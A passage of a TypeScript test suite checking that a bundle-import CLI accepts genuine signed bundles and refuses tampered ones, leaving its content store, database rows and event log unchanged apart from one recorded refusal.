    assert.ok(ctx.targetRecord.size > 64, 'the target blob has data to damage');
    // Blobs new to the host are staged before the damaged one is reached: a refusal must discard them.
    assert.ok(ctx.freshBlobs >= 2, `only ${ctx.freshBlobs} blobs are new to the base state`);
    assert.ok(m.blobs.length - ctx.freshBlobs >= 1, 'some blobs are already in the store');
    const before = await snapshot(ctx.baseState);
    assert.equal(before.bundles.length, 1);
    assert.ok(before.store.length > 0);
    assert.deepEqual(before.staging, []);
    assert.equal(CASES.length, new Set(CASES.map((c) => c.name)).size, 'row names are unique');
    assert.ok(CASES.length >= 30);
  });

  it('an untampered bundle, and the same bundle re-packed and re-signed by the harness, import cleanly', async () => {
    const work = join(ctx.dir, 'cases', 'control');
    const state = join(work, 'state');
    await mkdir(work, { recursive: true });
    await cp(ctx.baseState, state, { recursive: true });
    const repacked = join(work, 'repacked.airlock');
    await writeFile(repacked, ctx.goodB.resign(ctx.goodB.manifestBytes, ctx.key).pack());
    const v = await runCli(['bundle', 'verify', repacked, '--trust', ctx.vendor.trustDir, '--json']);
    assert.equal(v.code, 0, v.stdout + v.stderr);
    const file = join(work, 'good.airlock');
    await writeFile(file, ctx.good);
    await importOk(file, state, ctx.vendor.trustDir);
    const after = await snapshot(state);
    assert.equal(after.bundles.length, 2);
    assert.ok(after.store.includes(`${ctx.targetRecord.digest.slice(7)} ${ctx.targetRecord.size}`));
    assert.deepEqual(after.staging, []);
  });

  for (const tc of CASES) {
    it(`${tc.error}/${tc.reason}: ${tc.name}`, async () => {
      const work = join(ctx.dir, 'cases', slug(tc.name));
      const state = join(work, 'state');
      await mkdir(work, { recursive: true });
      await cp(ctx.baseState, state, { recursive: true });
      const trust = tc.trust?.(ctx) ?? ctx.vendor.trustDir;
      for (const [i, b] of (tc.prepare?.(ctx) ?? []).entries()) {
        const f = join(work, `prepare-${i}.airlock`);
        await writeFile(f, b);
        await importOk(f, state, ctx.vendor.trustDir);
      }
      const file = join(work, 'bad.airlock');
      await writeFile(file, await tc.make(ctx));

      const before = await snapshot(state);
      const r = await runCli(['bundle', 'import', file, '--state', state, '--trust', trust, '--json']);
      assertRefused(r, tc, ctx, 'bundle import');
      const after = await snapshot(state);

      assert.deepEqual(after.store, before.store, 'the content store changed');
      assert.deepEqual(after.staging, [], 'staging leftovers');
      assert.deepEqual(after.bundles, before.bundles, 'bundles rows changed');
      assert.deepEqual(after.blobs, before.blobs, 'blobs rows changed');
      assert.deepEqual(after.bundleBlobs, before.bundleBlobs, 'bundle_blobs rows changed');
      assert.deepEqual(after.events.slice(0, before.events.length), before.events, 'old events changed');
      assert.equal(after.events.length, before.events.length + 1, 'exactly one new event');
      const ev = after.events[after.events.length - 1]!;
      assert.equal(ev.kind, 'bundle.import');
      assert.equal(ev.outcome, 'refused');
      assert.equal(ev.reason, tc.reason);
      assert.match(ev.message ?? '', messageOf(tc, ctx));

      if (tc.verify) {
        const v = await runCli(['bundle', 'verify', file, '--trust', trust, '--state', state, '--json']);
        assertRefused(v, tc, ctx, 'bundle verify');
      }
    });
  }
});
